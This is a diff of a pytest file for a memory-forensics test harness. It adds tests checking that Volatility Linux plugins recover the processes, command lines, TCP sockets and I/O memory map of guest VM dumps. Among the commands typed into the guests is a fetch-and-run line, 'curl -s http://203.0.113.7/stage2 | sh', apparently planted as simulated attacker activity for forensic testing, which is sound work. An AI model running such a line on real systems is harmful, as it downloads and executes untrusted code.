@@ -4,22 +4,26 @@
 from __future__ import annotations
 
 import hashlib
+import os
 import re
 import socket
 import tarfile
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from typing import Any, Final
 
 import pytest
 
 from dumpmaker import initramfs
-from dumpmaker.cache import RECIPES, Dump
+from dumpmaker.cache import FURTHER, RECIPES, Dump
+from support.pluginruns import guest_processes, processes, stable
 from support.volrunner import Vol
 
 pytestmark = pytest.mark.slow
 Dumps = Callable[[str], Dump]
 
-RICH: Final = [name for name, recipe in RECIPES.items() if recipe.rich]
+GUESTS: Final = RECIPES | (FURTHER if os.environ.get("BTF_ALL_GUESTS") else {})
+RICH: Final = [name for name, recipe in GUESTS.items() if recipe.rich]
+AMD64: Final = [name for name in RICH if name.startswith("amd64")]
 TYPED: Final = {
     "cd /tmp",
     "curl -s http://203.0.113.7/stage2 | sh",
@@ -228,3 +232,53 @@ def test_files_in_the_page_cache_have_their_paths_and_sizes(dump: Dumps, session
     assert sizes["/disk/numbers"] == numbers
     assert sizes["/disk/folder/note"] == len("found-on-a-disk\n")
     assert sizes["/init"] == len(initramfs.INIT.read_bytes())
+
+
+@pytest.mark.parametrize("name", AMD64)
+def test_processes_are_found_in_every_way(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    told = stable(guest_processes(guest.truth))
+    hashed = processes(session_vol("linux.pidhashtable", image=guest.raw))
+    assert stable(hashed).items() >= told.items()
+    scanned = processes(session_vol("linux.psscan", image=guest.raw))
+    assert stable(scanned).items() >= told.items()
+
+
+@pytest.mark.parametrize("name", AMD64)
+def test_command_lines_are_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    shown = {row["PID"]: row["ARGS"] for row in session_vol("linux.psaux", image=guest.raw).rows}
+    lines = {int(path.parent.name): path.read_text() for path in guest.folder.glob("proc/*/cmdline")}
+    assert len(lines) >= 10
+    assert {pid: shown.get(pid) for pid in lines} == {
+        pid: " ".join(text.splitlines()) for pid, text in lines.items()
+    }
+
+
+@pytest.mark.parametrize("name", [name for name in AMD64 if name != "amd64-6.1-rich"])
+def test_sockets_are_found_by_scanning(dump: Dumps, session_vol: Vol, name: str) -> None:
+    """On 6.1 the plugin ends with an error of its own (docs/newer-kernels.md)."""
+    guest = dump(name)
+    rows = session_vol("linux.sockscan", image=guest.raw).rows
+    shown = {
+        tuple((row[f"{side} Addr"], int(row[f"{side} Port"])) for side in ("Source", "Destination"))
+        for row in rows
+        if (row["Family"], row["Proto"]) == ("AF_INET", "TCP")
+    }
+    assert shown >= {pair for pair in sockets(guest, "tcp") if pair[0][0] != "0.0.0.0"} != set()
+
+
+@pytest.mark.parametrize("name", AMD64)
+def test_the_map_of_addresses_is_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    lines = re.findall(r"^ *(\w+)-(\w+) : (.*)$", told(guest, "iomem"), re.MULTILINE)
+    rows = session_vol("linux.iomem", image=guest.raw).rows
+    shown = {(row["Name"], row["Start"], row["End"]) for row in flattened(rows)}
+    assert {(text, int(start, 16), int(end, 16)) for start, end, text in lines} <= shown
+
+
+def flattened(rows: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
+    """The rows of a tree, those below others too."""
+    for row in rows:
+        yield row
+        yield from flattened(row["__children"])
